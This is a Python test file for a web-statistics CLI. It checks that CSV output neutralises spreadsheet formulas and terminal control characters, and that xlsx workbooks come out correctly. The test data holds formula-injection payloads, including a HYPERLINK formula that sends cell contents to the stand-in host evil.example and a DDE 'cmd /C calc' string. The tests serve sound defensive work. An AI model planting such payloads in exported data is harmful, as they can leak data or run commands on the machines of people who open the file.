"""CSV that is safe to look at, and the untouched values with ``--raw``."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sitestats import WebsiteSpec
from sitestats.cli._app import app
from sitestats.cli._output import CsvStyle

if TYPE_CHECKING:
    from commands import Run
    from sitestats.emulator import Emulator

HOSTILE = {
    '=HYPERLINK("http://evil.example/"&A1)': '\'=HYPERLINK("http://evil.example/"&A1)',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1": "'+1",
    "-1": "'-1",
    "@SUM(A1)": "'@SUM(A1)",
    "  =1": "'  =1",
    "\uff1d1": "'\uff1d1",
    "a;=1": "a;'=1",
    "a; -1": "a;' -1",
    "\t=1": "\\t=1",
    "\r=1": "\\r=1",
    "a\n=1": "a\\n=1",
    "\x1b[2Jgone": "\\x1b[2Jgone",
    "\x9b2J": "\\x9b2J",
    "\u202etxt": "\\u202etxt",
    "\x00": "\\x00",
    "a=b": "a=b",
    "a-b, c": "a-b, c",
    "50 %": "50 %",
    "ünï": "ünï",
}


def written(
    capsys: pytest.CaptureFixture[str], values: list[str], *, raw: bool
) -> list[str]:
    """The lines of one column with these values, below its name."""
    capsys.readouterr()
    CsvStyle(raw).write(["x"], [{"x": value} for value in values])
    name, _, rest = capsys.readouterr().out.partition("\n")
    assert name == "x"
    return rest.splitlines(keepends=True)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_programs_would_obey(
    capsys: pytest.CaptureFixture[str], value: str
) -> None:
    """A formula becomes text, and a control character an escape, unless with --raw."""
    (line,) = written(capsys, [value], raw=False)
    assert next(csv.reader([line])) == [HOSTILE[value]]
    assert line.rstrip("\n").isprintable()
    raw = "".join(written(capsys, [value], raw=True))
    assert list(csv.reader(io.StringIO(raw, newline="")))[0] == [value]  # noqa: RUF015 - of lines


texts = st.text(
    st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@;, '\"\t\r\n\x1b")
)


@given(texts)
def test_no_value_is_a_formula(text: str) -> None:
    """No cell is a formula, whichever separator a spreadsheet takes."""
    with pytest.MonkeyPatch.context() as patch:
        out = io.BytesIO()
        patch.setattr("sys.stdout", io.TextIOWrapper(out, "utf-8"))
        CsvStyle().write(["x", "y"], [{"x": "a", "y": text}])
        line = out.getvalue().decode().splitlines()[1]
    assert line.isprintable()
    comma = next(csv.reader([line]))
    assert len(comma) == 2
    for cell in (*comma, *line.split(";"), *next(csv.reader([line], delimiter=";"))):
        assert not cell.lstrip(' "').startswith(("=", "+", "-", "@"))


def test_numbers_stay_numbers(capsys: pytest.CaptureFixture[str]) -> None:
    """A negative number is no formula, and stays one that programs can read."""
    CsvStyle().write(["x", "y", "z"], [{"x": -1, "y": -0.5, "z": None}])
    assert capsys.readouterr().out == "x,y,z\n-1,-0.5,\n"


def test_csv_for_a_spreadsheet(emulator: Emulator, run: Run) -> None:
    """Excel of a country with decimal commas wants semicolons and a byte order mark,
    and a person one decimal; --raw has all of them.
    """
    command = ["compare", "semicomplete.com", "--last", 2, "--format", "csv"]
    done = run(*command, "--delimiter", ";", "--bom")
    header, row = done.out.splitlines()
    assert header.startswith("\ufeffhostname;timezone;")
    assert row.count(";") == header.count(";")
    (plain,) = csv.DictReader(io.StringIO(run(*command).out))
    (raw,) = csv.DictReader(io.StringIO(run(*command, "--raw").out))
    assert plain["visitors_percent"] == str(round(float(raw["visitors_percent"]), 1))
    assert len(raw["visitors_percent"]) > 8
    for wrong in (";;", "\n", '"'):
        assert run(*command, "--delimiter", wrong).code == 2


def test_workbooks(
    emulator: Emulator, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """Statistics, comparisons and the list are workbooks, and plan reads the list."""
    one, two = "semicomplete.com", "blog.semicomplete.com"
    days = ("--last", "3", "-f", "visitors,pages")
    for command, sheets in (
        (("stats", one, *days), ["totals", "pages", "queries"]),
        (("stats", one, two, *days), ["totals", "pages", "queries"]),
        (("compare", one, *days), ["totals", "pages", "queries"]),
        (("compare", one, two, *days), ["totals", "pages", "queries"]),
        (("websites", "list"), ["websites"]),
    ):
        with pytest.raises(SystemExit) as ended:
            app.main([*command, "--format", "xlsx"], prog_name="sitestats")
        done = capsysbinary.readouterr()
        assert (ended.value.code, done.err) == (0, b"")
        book = openpyxl.load_workbook(io.BytesIO(done.out))
        assert book.sheetnames == sheets
        rows = len([word for word in command if word.endswith(".com")])
        assert book[sheets[0]].max_row == 1 + (rows or len(emulator.websites))
    specs = WebsiteSpec.load(io.BytesIO(done.out))
    assert [spec.hostname for spec in specs] == [*emulator.websites]
    with emulator.client() as client:
        assert client.websites.plan(specs).complete


def test_statistics_as_csv(emulator: Emulator, run: Run) -> None:
    """What a visitor sent as a campaign is a formula with --raw alone."""
    value = '=HYPERLINK("http://evil.example/";"\x1b[2J")'
    emulator.load([{"hostname": "csv.example", "utm_campaign": value, "path": "/"}])
    command = ["stats", "csv.example", "--field", "utm_campaigns", "--format", "csv"]
    command += ["--last", "7"]
    safe = list(csv.DictReader(io.StringIO(run(*command).out)))
    assert safe[0]["value"] == "'" + value.replace("\x1b", "\\x1b")
    raw = list(csv.DictReader(io.StringIO(run(*command, "--raw").out)))
    assert raw[0]["value"] == value


@pytest.mark.parametrize("form", ["table", "json"])
def test_raw_is_for_csv(emulator: Emulator, run: Run, form: str) -> None:
    """--raw with another format is an error, in whatever order they are given."""
    for options in (["--raw", "--format", form], ["--format", form, "--raw"]):
        done = run("websites", "list", *options)
        assert done.code == 2
        assert done.err.startswith("sitestats: --raw: only --format csv ")
    assert emulator.requests == ()
